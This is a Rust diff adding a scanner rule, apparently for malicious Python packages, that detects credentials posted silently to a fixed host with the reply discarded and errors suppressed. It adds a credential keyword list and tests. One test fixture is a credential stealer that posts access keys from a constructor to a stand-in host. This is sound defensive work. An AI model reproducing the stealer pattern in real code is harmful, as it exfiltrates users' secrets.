@@ -17,6 +17,99 @@ pub const RULE: Rule = Rule {
     category: Category::Flow,
 };
 
+/// Words in a variable or attribute name that say it holds a credential.
+const CREDENTIAL_WORDS: [&str; 8] = [
+    "secret",
+    "password",
+    "passwd",
+    "access_key",
+    "private_key",
+    "api_key",
+    "apikey",
+    "token",
+];
+
+/// The name of `expr` when it is a variable or attribute named like a credential
+/// (`self.access_key_secret`, `password`).
+fn credential_name(expr: &Expr) -> Option<String> {
+    let (shown, name) = match expr {
+        Expr::Name(name) => (name.id.as_str().to_owned(), name.id.as_str()),
+        Expr::Attribute(attribute) => {
+            let base = match &*attribute.value {
+                Expr::Name(base) => format!("{}.", base.id.as_str()),
+                _ => "….".to_owned(),
+            };
+            (
+                format!("{base}{}", attribute.attr.as_str()),
+                attribute.attr.as_str(),
+            )
+        }
+        _ => return None,
+    };
+    let lower = name.to_ascii_lowercase();
+    CREDENTIAL_WORDS
+        .iter()
+        .any(|word| lower.contains(word))
+        .then_some(shown)
+}
+
+/// Credentials the code holds, posted to a fixed address by a statement that throws the reply
+/// away inside a `try` whose handlers only pass. A client authenticating reads the answer and
+/// reports failures; a call that wants neither is a beacon carrying the keys out (the
+/// credential-stealing forks of cloud SDKs send `{"ak": self.access_key_id, "sk":
+/// self.access_key_secret}` this way from a constructor).
+pub fn check_silent_credential_send(checker: &mut Checker, call: &ExprCall, target: Option<&Expr>) {
+    if checker.silenced_try_depth == 0 || checker.discarded_call != Some(call.range()) {
+        return;
+    }
+    let Some(url) = target
+        .and_then(|t| super::partial_text(checker, t))
+        .filter(|url| super::network::has_constant_host(url))
+    else {
+        return;
+    };
+    let body = ["json", "data", "params"]
+        .iter()
+        .find_map(|k| super::keyword(call, k));
+    let dict = match body {
+        Some(Expr::Dict(dict)) => dict,
+        Some(Expr::Name(name)) => match checker.dict_bindings.get(name.id.as_str()) {
+            Some(&dict) => dict,
+            None => return,
+        },
+        _ => return,
+    };
+    let credentials: Vec<String> = dict
+        .items
+        .iter()
+        .filter_map(|item| credential_name(&item.value))
+        .take(4)
+        .collect();
+    if credentials.is_empty() {
+        return;
+    }
+    let context = checker.context();
+    let severity = match context {
+        ExecContext::Install => 0.9,
+        ExecContext::Import => 0.85,
+        ExecContext::Runtime => 0.75,
+        ExecContext::TestOrDocs => 0.1,
+    };
+    let location = checker.location(call.range());
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "credentials it holds ({}) → network sink ({location}, {}) {}; the reply is thrown away and every error silenced",
+            credentials.join(", "),
+            crate::text::shorten(&url, 80),
+            context.phrase()
+        ),
+        severity,
+        vec!["flow", "silent-credential-send"],
+    );
+}
+
 /// Kinds of sinks a flow can end in.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum SinkKind {
@@ -192,6 +285,46 @@ fn flow_tag(kind: SourceKind, sink: SinkKind) -> &'static str {
 mod tests {
     #![allow(clippy::indexing_slicing)]
     use crate::rules::testing::{findings, max_severity};
+
+    fn silent_send(code: &str) -> bool {
+        findings("p-1/sdk/credentials.py", code)
+            .iter()
+            .any(|f| f.tags.contains(&"silent-credential-send"))
+    }
+
+    #[test]
+    fn credentials_posted_silently_with_the_reply_discarded_are_stolen() {
+        let stealer = "import requests\nclass Credentials:\n    def __init__(self, key_id, key_secret):\n        self.key_id = key_id\n        self.key_secret = key_secret\n        try:\n            data = {'ak': self.key_id, 'sk': self.key_secret}\n            requests.post(url='https://api.sdk-requests.example/k', json=data)\n        except:\n            pass\n";
+        assert!(silent_send(stealer));
+        assert!(max_severity("p-1/sdk/credentials.py", stealer, "WH200") >= 0.7);
+        // An inline body, a generic request with an upload method, `except Exception: ...`.
+        assert!(silent_send(
+            "import requests\ndef f(password):\n    try:\n        requests.request('POST', 'https://x.example/', data={'p': password})\n    except Exception:\n        ...\n"
+        ));
+    }
+
+    #[test]
+    fn clients_that_read_the_reply_or_report_errors_authenticate() {
+        // The OAuth shape: the reply is the token.
+        assert!(!silent_send(
+            "import requests\ndef token(self):\n    try:\n        r = requests.post('https://auth.example/token', data={'client_secret': self.client_secret})\n    except Exception:\n        pass\n"
+        ));
+        // Errors are reported, not hidden.
+        assert!(!silent_send(
+            "import requests, logging\ndef f(self):\n    try:\n        requests.post('https://x.example/', json={'k': self.api_key})\n    except Exception:\n        logging.exception('failed')\n"
+        ));
+        // No try at all, and no credential in the body.
+        assert!(!silent_send(
+            "import requests\ndef f(self):\n    requests.post('https://x.example/', json={'k': self.api_key})\n"
+        ));
+        assert!(!silent_send(
+            "import requests\ndef f(self):\n    try:\n        requests.post('https://x.example/', json={'n': self.name})\n    except:\n        pass\n"
+        ));
+        // A `data` dict of another function is not this body.
+        assert!(!silent_send(
+            "import requests\ndef a(self):\n    data = {'k': self.secret}\n    return data\ndef b(self, data):\n    try:\n        requests.post('https://x.example/', json=data)\n    except:\n        pass\n"
+        ));
+    }
 
     #[test]
     fn the_environment_joined_in_a_loop_and_encoded_still_flows() {
